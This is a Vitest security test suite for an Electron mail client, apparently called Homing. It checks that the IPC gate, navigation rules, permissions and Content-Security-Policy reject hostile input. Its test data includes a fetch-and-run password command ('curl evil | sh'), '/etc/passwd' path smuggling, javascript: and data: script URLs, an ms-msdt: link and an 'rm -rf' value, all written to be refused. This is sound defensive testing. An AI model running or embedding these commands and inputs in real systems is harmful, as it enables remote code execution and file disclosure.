import { describe, expect, it } from 'vitest';
import type { MailService } from '../../../shared/contract';
import { contract, isEventName } from '../../../shared/contract';
import { type DesktopHandlers, desktopMethodNames } from '../../../shared/contract/desktop';
import { createDesktopClient } from '../../../shared/desktop-client';
import { HomingError } from '../../../shared/errors';
import { appCsp } from '../../../electron/app-csp';
import { createIpcGate, type IpcSender } from '../../../electron/ipc-gate';
import {
  allowFrameNavigation,
  allowNavigation,
  allowPermission,
  appRequestPath,
  appResponseHeaders,
  isExternalLink,
  secureWebPreferences,
  windowOpenDecision,
} from '../../../electron/window-policy';

const calls: string[] = [];
const service = new Proxy({} as MailService, {
  get: (_t, name) => async () => {
    calls.push(String(name));
    return [];
  },
});
const desktopCalls: Array<[string, unknown]> = [];
const desktop = new Proxy({} as DesktopHandlers, {
  get: (_t, name) => async (args: unknown) => {
    desktopCalls.push([String(name), args]);
    return { done: false };
  },
});
const OUR_WINDOW = 7;
const gate = createIpcGate(service, (id) => id === OUR_WINDOW, desktop);
const fromApp: IpcSender = { frameUrl: 'app://homing/index.html', isMainFrame: true, webContentsId: OUR_WINDOW };

const strangers: Array<[string, IpcSender]> = [
  ['another window', { ...fromApp, webContentsId: 99 }],
  ['a sub-frame (where mail is shown)', { ...fromApp, isMainFrame: false }],
  ['a page from another origin', { ...fromApp, frameUrl: 'https://evil.example/' }],
  ['a look-alike origin', { ...fromApp, frameUrl: 'app://homing.evil/' }],
  ['a file:// page', { ...fromApp, frameUrl: 'file:///home/me/index.html' }],
  ['a frame without a URL', { ...fromApp, frameUrl: '' }],
];

describe('the IPC gatekeeper', () => {
  it('serves a valid call from our window’s main frame', async () => {
    expect(await gate(fromApp, { method: 'listAccounts', args: {} })).toEqual({ ok: true, value: [] });
  });

  it.each(strangers)('refuses %s', async (_name, sender) => {
    calls.length = 0;
    desktopCalls.length = 0;
    expect(await gate(sender, { method: 'listAccounts', args: {} })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN_SENDER' } });
    expect(await gate(sender, { method: 'openAttachment', args: { messageId: 1, attachmentId: 1 } })).toMatchObject({
      ok: false,
      error: { code: 'FORBIDDEN_SENDER' },
    });
    expect(calls).toEqual([]);
    expect(desktopCalls).toEqual([]);
  });

  it('refuses unknown methods and invalid arguments', async () => {
    calls.length = 0;
    expect(await gate(fromApp, { method: 'constructor', args: {} })).toMatchObject({ ok: false, error: { code: 'UNKNOWN_METHOD' } });
    expect(await gate(fromApp, { method: '__proto__', args: {} })).toMatchObject({ ok: false, error: { code: 'UNKNOWN_METHOD' } });
    expect(await gate(fromApp, 'listAccounts')).toMatchObject({ ok: false, error: { code: 'UNKNOWN_METHOD' } });
    expect(await gate(fromApp, null)).toMatchObject({ ok: false, error: { code: 'UNKNOWN_METHOD' } });
    expect(await gate(fromApp, { method: 'getMessage', args: { id: 'x' } })).toMatchObject({ ok: false, error: { code: 'INVALID_ARGUMENT' } });
    expect(calls).toEqual([]);
  });

  it('keeps filesystem paths out of the renderer’s reach', async () => {
    calls.length = 0;
    for (const method of ['importMail', 'exportFolder', 'exportMessage']) {
      expect(await gate(fromApp, { method, args: { path: '/etc/passwd', folderPath: 'x' } })).toMatchObject({
        ok: false,
        error: { code: 'FORBIDDEN_SENDER' },
      });
    }
    expect(calls).toEqual([]);
  });

  it('lets only the command line choose a password command (a program Homing would run)', async () => {
    const server = { email: 'a@example.org', protocol: 'imap', host: 'mail.example.org', port: 993, security: 'tls', username: 'a' };
    const command = { kind: 'command', command: 'sh -c "curl evil | sh"' };
    const accounts = [{ id: 'acc1', settings: { passwordSource: { kind: 'command', command: 'pass show mail/me' } } }];
    const withAccounts = new Proxy({} as MailService, {
      get: (_t, name) => async () => {
        calls.push(String(name));
        return name === 'listAccounts' ? accounts : { id: 'acc1' };
      },
    });
    const guarded = createIpcGate(withAccounts, (id) => id === OUR_WINDOW, desktop);
    calls.length = 0;
    const refused = { ok: false, error: { code: 'FORBIDDEN_SENDER', message: expect.stringContaining('--password-command') } };
    expect(await guarded(fromApp, { method: 'addAccount', args: { ...server, settings: { passwordSource: command } } })).toMatchObject(refused);
    expect(await guarded(fromApp, { method: 'updateAccount', args: { id: 'acc1', patch: { settings: { passwordSource: command } } } })).toMatchObject(refused);
    expect(calls).not.toContain('addAccount');
    expect(calls).not.toContain('updateAccount');
    // Saving other settings keeps the command the account already has; choosing the keychain or the file is the window's to make.
    const same = { settings: { notify: false, passwordSource: accounts[0]!.settings.passwordSource } };
    expect(await guarded(fromApp, { method: 'updateAccount', args: { id: 'acc1', patch: same } })).toMatchObject({ ok: true });
    expect(await guarded(fromApp, { method: 'updateAccount', args: { id: 'acc1', patch: { password: 'pw', settings: { passwordSource: { kind: 'file' } } } } })).toMatchObject({ ok: true });
  });

  it('serves the desktop methods with validated arguments, defaults filled in', async () => {
    desktopCalls.length = 0;
    expect(await gate(fromApp, { method: 'importMailWithDialog', args: {} })).toEqual({ ok: true, value: { done: false } });
    expect(desktopCalls).toEqual([['importMailWithDialog', { kind: 'files', accountId: 'local' }]]);
  });

  it.each([
    ['openAttachment', { messageId: -1, attachmentId: 1 }],
    ['saveAttachment', { messageId: 1 }],
    ['exportFolderWithDialog', { accountId: 'a', folderPath: 'INBOX', mboxPath: '/tmp/x.mbox' }],
    ['importMailWithDialog', { path: '/etc' }],
    ['exportMessageWithDialog', { id: 1.5 }],
  ])('refuses invalid arguments to %s (no paths may be smuggled in)', async (method, args) => {
    desktopCalls.length = 0;
    expect(await gate(fromApp, { method, args })).toMatchObject({ ok: false, error: { code: 'INVALID_ARGUMENT' } });
    expect(desktopCalls).toEqual([]);
  });

  it('knows no desktop method where there is no desktop (the test bridge, the CLI)', async () => {
    const bare = createIpcGate(service, (id) => id === OUR_WINDOW);
    for (const method of desktopMethodNames) {
      expect(await bare(fromApp, { method, args: {} })).toMatchObject({ ok: false, error: { code: 'UNKNOWN_METHOD' } });
    }
  });

  it('turns a failing desktop method into coded error data', async () => {
    const failing = createIpcGate(service, () => true, {
      ...desktop,
      openAttachment: async () => {
        throw new Error('boom');
      },
    } as DesktopHandlers);
    expect(await failing(fromApp, { method: 'openAttachment', args: { messageId: 1, attachmentId: 1 } })).toEqual({
      ok: false,
      error: { code: 'INTERNAL', message: 'boom' },
    });
  });

  it('is what the renderer’s desktop client talks to: results come back, failures throw coded errors', async () => {
    const client = createDesktopClient((method, args) => gate(fromApp, { method, args }));
    expect(await client.importMailWithDialog({})).toEqual({ done: false });
    const error = await client.openAttachment({ messageId: 0, attachmentId: 1 }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(HomingError);
    expect(error).toMatchObject({ code: 'INVALID_ARGUMENT' });
    expect(Object.keys(client).sort()).toEqual([...desktopMethodNames].sort());
  });

  it('declares the shell’s events in the contract, so the renderer accepts them', () => {
    expect(isEventName('openMessageRequested')).toBe(true);
    expect(contract.events.openMessageRequested.payload.safeParse({ messageId: 5 }).success).toBe(true);
    expect(contract.events.menuActionRequested.payload.safeParse({ action: 'check-mail' }).success).toBe(true);
    expect(contract.events.menuActionRequested.payload.safeParse({ action: 'rm -rf' }).success).toBe(false);
  });
});

describe('the window policy', () => {
  it('uses every security setting of Electron’s checklist', () => {
    expect(secureWebPreferences('/p.cjs')).toMatchObject({
      preload: '/p.cjs',
      contextIsolation: true,
      sandbox: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      allowRunningInsecureContent: false,
      experimentalFeatures: false,
      enableBlinkFeatures: '',
      webviewTag: false,
      navigateOnDragDrop: false,
    });
  });

  it('sends only http(s) and mailto links outside', () => {
    expect(isExternalLink('https://example.org/')).toBe(true);
    expect(isExternalLink('http://example.org/')).toBe(true);
    expect(isExternalLink('mailto:a@b.c')).toBe(true);
    expect(isExternalLink('javascript:alert(1)')).toBe(false);
    expect(isExternalLink('file:///etc/passwd')).toBe(false);
    expect(isExternalLink('smb://server/share')).toBe(false);
    expect(isExternalLink('ms-msdt:/id PCWDiagnostic')).toBe(false);
    expect(isExternalLink('not a url')).toBe(false);
  });

  it('never lets the window navigate', () => {
    for (const url of ['https://example.org/', 'app://homing/other.html', 'file:///etc/passwd', 'about:blank']) {
      expect(allowNavigation(url)).toBe(false);
      expect(allowFrameNavigation(url, true)).toBe(false);
    }
  });

  it('lets frames hold only the app’s own documents', () => {
    expect(allowFrameNavigation('about:srcdoc', false)).toBe(true);
    expect(allowFrameNavigation('about:blank', false)).toBe(true);
    expect(allowFrameNavigation('blob:app://homing/1b4e28ba-2fa1-11d2-883f-0016d3cca427', false)).toBe(true);
    expect(allowFrameNavigation('app://homing/message.html', false)).toBe(true);
    expect(allowFrameNavigation('https://tracker.example/pixel', false)).toBe(false);
    expect(allowFrameNavigation('blob:https://evil.example/1', false)).toBe(false);
    expect(allowFrameNavigation('data:text/html,<script>alert(1)</script>', false)).toBe(false);
    expect(allowFrameNavigation('javascript:alert(1)', false)).toBe(false);
    expect(allowFrameNavigation('file:///etc/passwd', false)).toBe(false);
  });

  it('denies every new window, handing web and mail links to the system', () => {
    expect(windowOpenDecision('https://example.org/')).toEqual({ action: 'deny', openExternally: true, compose: false });
    // A mailto: link in a message opens Homing's own composer, not the system's mail program.
    expect(windowOpenDecision('mailto:someone@example.org')).toEqual({ action: 'deny', openExternally: false, compose: true });
    expect(windowOpenDecision('app://homing/index.html')).toEqual({ action: 'deny', openExternally: false, compose: false });
    expect(windowOpenDecision('file:///C:/Windows/System32/calc.exe')).toEqual({ action: 'deny', openExternally: false, compose: false });
  });

  it('denies permission requests and checks, but for writing the clipboard from the app itself', () => {
    for (const permission of ['media', 'geolocation', 'notifications', 'openExternal', 'clipboard-read', 'fullscreen', 'hid', 'usb', 'unknown']) {
      expect(allowPermission(permission, 'app://homing/index.html', true)).toBe(false);
    }
    expect(allowPermission('clipboard-sanitized-write', 'app://homing/index.html', true)).toBe(true);
    expect(allowPermission('clipboard-sanitized-write', 'app://homing/index.html', false)).toBe(false);
    expect(allowPermission('clipboard-sanitized-write', 'https://evil.example/', true)).toBe(false);
  });

  it('serves app:// only for its own host', () => {
    expect(appRequestPath('app://homing/index.html')).toBe('/index.html');
    expect(appRequestPath('app://homing/assets/app.js?v=1')).toBe('/assets/app.js');
    expect(appRequestPath('app://other/index.html')).toBeNull();
    expect(appRequestPath('app://homing.evil/index.html')).toBeNull();
    expect(appRequestPath('::')).toBeNull();
  });

  it('sends the CSP and the usual hardening headers with every response', () => {
    const headers = appResponseHeaders('text/html; charset=utf-8', appCsp());
    expect(headers).toMatchObject({ 'content-security-policy': appCsp(), 'x-content-type-options': 'nosniff' });
  });
});

describe('the app’s Content-Security-Policy', () => {
  const directives = new Map(
    appCsp()
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .map(([name, ...values]) => [name as string, values]),
  );

  it('starts from nothing allowed', () => {
    expect(directives.get('default-src')).toEqual(["'none'"]);
  });

  it('runs only the app’s own scripts: no inline script, no eval, no remote code', () => {
    const scripts = directives.get('script-src') ?? [];
    expect(scripts).toEqual(["'self'"]);
  });

  it('allows no plugins, no base-URL tricks, no form posts, and no framing of the app', () => {
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(directives.get('base-uri')).toEqual(["'none'"]);
    expect(directives.get('form-action')).toEqual(["'none'"]);
    expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
  });

  it('talks only to itself (the bridge adds its loopback socket in the browser build only)', () => {
    expect(directives.get('connect-src')).toEqual(["'self'"]);
  });
});
